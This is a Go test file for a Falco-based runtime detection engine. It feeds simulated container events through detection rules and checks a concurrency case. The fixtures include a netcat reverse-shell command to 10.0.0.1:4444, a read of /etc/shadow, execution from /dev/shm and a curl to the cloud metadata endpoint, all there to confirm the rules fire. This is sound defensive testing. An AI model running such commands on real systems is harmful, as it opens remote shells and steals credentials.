package rules

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/tripline/tripline/internal/event"
)

// TestUpstreamDetects replays attack-like events through both upstream
// files and checks the expected Falco rules fire (through the index, the
// prefilter and the expr program).
func TestUpstreamDetects(t *testing.T) {
	rs := loadUpstream(t)
	runc := testProc("runc:[1:CHILD]", "/usr/bin/runc", 4000, "runc", "init")
	ct := &event.Container{ID: "abcdefabcdef", FullID: "abcdefabcdef0000", Name: "web", ImageRepository: "docker.io/library/nginx"}

	shell := &event.Event{Type: event.TypeExecve}
	shell.Proc = *testProc("bash", "/usr/bin/bash", 4001, "bash")
	shell.Proc.TTY = 34816
	shell.Proc.ContainerID = ct.FullID
	shell.Container = ct
	shell.SetLineage([]*event.Process{runc})

	nc := &event.Event{Type: event.TypeExecve}
	nc.Proc = *testProc("nc", "/usr/bin/nc", 4002, "nc", "-e", "/bin/sh", "10.0.0.1", "4444")
	nc.Container = ct
	nc.SetLineage([]*event.Process{&shell.Proc, runc})

	shadow := &event.Event{Type: event.TypeOpenat, Res: 3}
	shadow.Proc = *testProc("python3", "/usr/bin/python3", 4003, "python3", "x.py")
	shadow.Open = event.Open{Path: "/etc/shadow", RawPath: "/etc/shadow", Flags: 0}
	shadow.SetLineage([]*event.Process{testProc("bash", "/usr/bin/bash", 900, "bash")})

	shm := &event.Event{Type: event.TypeExecve}
	shm.Proc = *testProc("x", "/dev/shm/x", 4004, "/dev/shm/x")
	shm.Proc.Cwd = "/dev/shm"
	shm.SetLineage([]*event.Process{testProc("bash", "/usr/bin/bash", 900, "bash")})

	imds := &event.Event{Type: event.TypeConnect}
	imds.Proc = *testProc("curl", "/usr/bin/curl", 4005, "curl", "http://169.254.169.254/")
	imds.Container = ct
	imds.Connect = event.Connect{FD: 3, Family: event.AFInet, SockType: 1, Proto: event.ProtoTCP,
		LocalAddr: netip.MustParseAddr("172.17.0.2"), LocalPort: 40000,
		RemoteAddr: netip.MustParseAddr("169.254.169.254"), RemotePort: 80}

	e := rs.NewEvaluator()
	for _, tc := range []struct {
		name string
		ev   *event.Event
		want string
	}{
		{"terminal shell", shell, "Terminal shell in container"},
		{"netcat", nc, "Netcat Remote Code Execution in Container"},
		{"read shadow", shadow, "Read sensitive file untrusted"},
		{"exec from /dev/shm", shm, "Execution from /dev/shm"},
		{"cloud metadata", imds, "Contact cloud metadata service from container"},
	} {
		var names []string
		for _, r := range e.Match(tc.ev, nil) {
			names = append(names, r.Name)
		}
		found := false
		for _, n := range names {
			found = found || n == tc.want
		}
		if !found {
			t.Errorf("%s: want %q among matches, got %q", tc.name, tc.want, strings.Join(names, "; "))
		}
	}
}

// TestConcurrentEvaluators shares one Ruleset between goroutines, each
// with its own Evaluator (run with -race).
func TestConcurrentEvaluators(t *testing.T) {
	rs := loadUpstream(t)
	evs := typicalEvents()
	done := make(chan int)
	for g := 0; g < 4; g++ {
		go func() {
			e := rs.NewEvaluator()
			n := 0
			for i := 0; i < 200; i++ {
				for _, ev := range evs {
					n += len(e.Match(ev, nil))
				}
				n += len(e.Match(openEvent(), nil))
			}
			done <- n
		}()
	}
	first := <-done
	for g := 1; g < 4; g++ {
		if n := <-done; n != first {
			t.Errorf("goroutines disagree: %d vs %d", n, first)
		}
	}
}
